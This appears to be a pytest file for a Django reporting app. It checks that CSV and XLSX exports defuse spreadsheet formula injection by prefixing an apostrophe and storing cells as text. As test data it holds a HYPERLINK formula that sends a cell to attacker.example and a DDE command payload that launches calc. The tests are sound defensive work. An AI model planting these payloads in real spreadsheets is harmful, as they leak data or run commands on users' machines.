"""Every CSV and XLSX the product writes holds data, never code: a text starting with `=`,
`+`, `-`, `@`, a tab or a carriage return is written with an apostrophe in front, XLSX
texts are stored as texts, numbers stay numbers, and importing an export changes nothing."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from districts.spreadsheets import restore_text, safe_text
from plans.models import Plan
from reports.imports.exports import error_file
from reports.imports.importer import report_file_import
from reports.imports.parsing import FileFormat, FileProblem, detect_format, read_rows
from reports.imports.resources import ActualResource
from reports.models import Actual
from targets.models import Indicator, Target
from targets.resources import TargetResource
from tests.factories import (
    LONG_VI,
    actual_make,
    csv_bytes,
    disu_plan,
    hanoi_2024_two_districts,
    hanoi_2024_with_results,
    unit_by_code,
    xlsx_bytes,
)

HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Xem")'
EXPORT = reverse("reports:export")


# --- the helper ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=1+1", "''-x"]
)
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert safe_text(text) == "'" + text
    assert restore_text(safe_text(text)) == text


@pytest.mark.parametrize(
    "text", ["Quận Ba Đình", "-12", "+84", "-1.234,5", "74,2%", "", "'", "'quoted", "a=b"]
)
def test_plain_texts_and_numbers_stay_as_they_are(text):
    assert safe_text(text) == text
    assert restore_text(text) == text


@given(st.text())
def test_reading_back_is_the_exact_inverse_of_writing(text):
    assert restore_text(safe_text(text)) == text
    written = safe_text(text)
    # Only a plain number (+84, -12) may start like a formula: a spreadsheet reads it as
    # that number, nothing more.
    starts_like_a_formula = written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert not starts_like_a_formula or re.fullmatch(r"[+-]?\d+(?:[.,]\d+)*%?", written)


# --- exports and templates ----------------------------------------------------------------


@pytest.fixture
def poisoned_note(db):
    hanoi_2024_two_districts()
    return actual_make("graduates_attracted", "001", "2024", "650", note=HYPERLINK)


def _csv_rows(content: bytes, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


@pytest.mark.django_db
def test_a_note_is_exported_to_csv_as_data(client, poisoned_note, officer_01):
    client.force_login(officer_01)
    response = client.get(EXPORT, {"what": "actuals", "layout": "long", "format": "csv"})
    row = next(r for r in _csv_rows(response.content)[1:] if r[0] == "001")
    assert row[4] == "650"  # a number stays a number
    assert row[7] == "'" + HYPERLINK


@pytest.mark.django_db
def test_a_note_is_exported_to_xlsx_as_a_text_cell(client, poisoned_note, officer_01):
    client.force_login(officer_01)
    response = client.get(EXPORT, {"what": "actuals", "layout": "long", "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    note = sheet.cell(row=2, column=8)
    assert note.data_type == "s" and note.value == "'" + HYPERLINK
    assert sheet.cell(row=2, column=5).value == 650


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_importing_the_export_gives_the_note_back_unchanged(
    client, poisoned_note, file_format, officer_01
):
    officer = officer_01
    client.force_login(officer)
    response = client.get(EXPORT, {"what": "actuals", "layout": "long", "format": file_format})
    result = report_file_import(
        stream=io.BytesIO(response.content), file_name=f"x.{file_format}", actor=officer
    )
    assert result.summary() == "created=0 updated=0 unchanged=1 errors=0 warnings=0"
    assert Actual.objects.get(pk=poisoned_note.pk).note == HYPERLINK


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_template_writes_a_stored_note_as_data(client, make_user, poisoned_note, ba_dinh,
                                                 file_format):
    plan = Plan.objects.get(code="hn-2024")
    client.force_login(make_user("reporter", "001"))
    response = client.get(reverse("reports:import_template"), {
        "plan": plan.pk, "period": "2024", "unit": ba_dinh.pk, "layout": "long",
        "format": file_format,
    })
    if file_format == "csv":
        notes = [r[7] for r in _csv_rows(response.content)[1:] if r[7]]
        assert notes == ["'" + HYPERLINK]
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [r[7] for r in sheet.iter_rows(min_row=2) if r[7].value]
        assert [(c.value, c.data_type) for c in cells] == [("'" + HYPERLINK, "s")]


# --- the error file ---------------------------------------------------------------------


def test_the_csv_error_file_writes_a_users_formula_as_data():
    data = csv_bytes([[*LONG_VI, "ghi_chu"], ["006", "enrol_total", "2024", "900", "=1+1"]],
                     delimiter=";")
    fmt = detect_format(io.BytesIO(data))
    content = error_file(io.BytesIO(data), fmt, problems_by_line={}, header_line=1,
                         language="vi")
    assert _csv_rows(content)[1][4] == "'=1+1"


def test_the_xlsx_error_file_writes_a_users_formula_as_text():
    data = xlsx_bytes([[*LONG_VI, "ghi_chu"], ["006", "enrol_total", "2024", 900, "@cmd"]])
    content = error_file(io.BytesIO(data), FileFormat("xlsx"), problems_by_line={},
                         header_line=1, language="vi")
    sheet = load_workbook(io.BytesIO(content)).active
    assert (sheet["E2"].value, sheet["E2"].data_type) == ("'@cmd", "s")
    assert sheet["D2"].value == 900


def test_a_file_with_a_nul_character_is_refused_with_its_line():
    data = csv_bytes([LONG_VI, ["001", "enrol_total", "2024", "1200"]]) + b"001,x\x00,2024,1\r\n"
    with pytest.raises(FileProblem) as refused:
        list(read_rows(io.BytesIO(data), detect_format(io.BytesIO(data))))
    assert refused.value.problem.line == 3 and "NUL" in str(refused.value)


# --- progress, official table, charts, command ---------------------------------------------


@pytest.mark.django_db
def test_the_progress_spreadsheet_writes_a_plan_title_and_a_wording_as_text(client, make_user):
    plan = hanoi_2024_with_results()
    plan.title = HYPERLINK
    plan.save()
    Target.objects.filter(plan=plan, unit__code="001").update(wording="=1+1")
    client.force_login(make_user("viewer", "01"))
    response = client.get(reverse("reports:progress_xlsx", args=["hn-2024", 2024]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    texts = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert texts and all(c.data_type == "s" for c in texts)
    assert not any(c.value.startswith(("=", "+", "@")) for c in texts)
    assert any(c.value == "'=1+1" for c in texts)
    assert sheet["A1"].value.startswith(f"'{HYPERLINK} · 2024")  # the title: plan and year


@pytest.mark.django_db
def test_the_official_spreadsheet_writes_an_indicator_name_as_text(client, make_user):
    disu_plan()
    Indicator.objects.filter(code="enrol_total").update(name_vi="-Tuyển sinh")
    client.force_login(make_user("viewer", "33"))
    response = client.get(reverse("reports:official_xlsx", args=["disu-2024", 2024]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    names = [c for c in sheet["B"] if c.value and "Tuyển sinh" in str(c.value)]
    assert ("'-Tuyển sinh", "s") in [(c.value, c.data_type) for c in names]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.django_db
def test_a_charts_csv_writes_a_unit_name_as_data(client, make_user):
    hanoi_2024_with_results()
    unit = unit_by_code("001")
    unit.name = "=cmd|' /C calc'!A0"
    unit.save()
    client.force_login(make_user("viewer", "01"))
    url = reverse("reports:dashboard_chart_csv", args=["units"]) + "?plan=hn-2024&year=2024"
    rows = _csv_rows(client.get(url).content, delimiter=";")
    row = next(r for r in rows if r[0] == "001")
    assert row[1] == "'=cmd|' /C calc'!A0"
    assert row[2:4] == ["650", "700"]  # numbers as they were


@pytest.mark.django_db
def test_the_progress_command_keeps_negative_numbers_as_numbers():
    hanoi_2024_with_results()
    out = io.StringIO()
    call_command("progress", plan="hn-2024", year=2024, format="csv", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    achievements = [r[7] for r in rows[1:] if r[7].startswith("-")]
    assert achievements, "the city's trained-labour rate below its target: negative points"
    assert all(Decimal(a) < 0 for a in achievements)


# --- the admin's exports (django-import-export) ----------------------------------------------


@pytest.mark.django_db
def test_the_admins_export_of_values_writes_a_note_as_data(poisoned_note, officer_01):
    dataset = ActualResource(actor=officer_01).export()
    assert dataset.dict[0]["ghi_chu"] == "'" + HYPERLINK
    assert "'=HYPERLINK" in dataset.csv


@pytest.mark.django_db
def test_the_admins_export_of_targets_writes_a_wording_as_data():
    plan = hanoi_2024_two_districts()
    Target.objects.filter(plan=plan).update(wording="+1 so với 2023")
    dataset = TargetResource().export()
    assert {row["wording"] for row in dataset.dict} == {"'+1 so với 2023"}
    sheet = load_workbook(io.BytesIO(dataset.export("xlsx"))).active
    assert all(c.data_type == "s" for c in sheet["H"][1:])
